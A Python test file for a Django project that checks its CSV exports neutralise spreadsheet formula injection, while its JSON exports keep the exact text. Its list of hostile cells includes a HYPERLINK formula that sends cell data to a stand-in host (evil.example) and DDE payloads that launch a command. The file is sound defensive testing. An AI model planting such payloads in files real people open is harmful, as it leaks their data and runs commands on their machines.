"""No CSV Ashyq writes holds a cell that a spreadsheet would run as a formula (OWASP "CSV Injection"): text that
starts with =, +, -, @, a tab or a carriage return gets a leading apostrophe; numbers and the JSON files keep
their values. One helper (ashyq.core.csv_safe) serves every writer, and a test below finds any writer that
bypasses it."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from ashyq.core.csv_safe import safe_cell, writer
from tests.public_record_helpers import publish

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-12.5", "+7", "-0,5", "1e-3", "+", "-", "Алматы", "a=b", "", "'=already quoted"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, None, True])
def test_values_that_are_not_text_are_left_alone(value):
    assert safe_cell(value) is value


def test_the_writer_neutralises_every_row_and_quotes_as_csv_does():
    buffer = io.StringIO()
    out = writer(buffer)
    out.writerow(["=name", "ok"])
    out.writerows([[-1, "=1+1"], ["x,y", "@a"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=name", "ok"], ["-1", "'=1+1"], ["x,y", "'@a"]]


def test_every_csv_writer_in_the_code_goes_through_the_helper():
    """A new CSV download written with csv.writer directly would let formulas through again."""
    source = Path(settings.BASE_DIR)
    helper = source / "core" / "csv_safe.py"
    offenders = []
    for path in source.rglob("*.py"):
        if path == helper or "migrations" in path.parts:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if re.search(r"\bcsv\.(writer|DictWriter)\(", line):
                offenders.append(f"{path.relative_to(source)}:{number}: {line.strip()}")
    assert not offenders, "write CSV with ashyq.core.csv_safe.writer:\n" + "\n".join(offenders)


def test_the_open_data_export_neutralises_formulas_in_published_texts(people, submit, settings, tmp_path):
    settings.ASHYQ_EXPORT_DIR = tmp_path / "exports"
    appeal = submit(people["applicant"], subject="orig", text="orig")
    publish(appeal, HOSTILE[0], HOSTILE[3])
    out = tmp_path / "out"
    call_command("export_public_data", "--out", str(out), stdout=io.StringIO())
    row = next(csv.DictReader(io.StringIO((out / "appeals.csv").read_text(encoding="utf-8"))))
    assert row["subject"] == "'" + HOSTILE[0] and row["text"] == "'" + HOSTILE[3]
    # The JSON is read by programs, not spreadsheets: it keeps the exact text.
    record = json.loads((out / "appeals.json").read_text(encoding="utf-8"))[0]
    assert record["subject"] == HOSTILE[0] and record["text"] == HOSTILE[3]
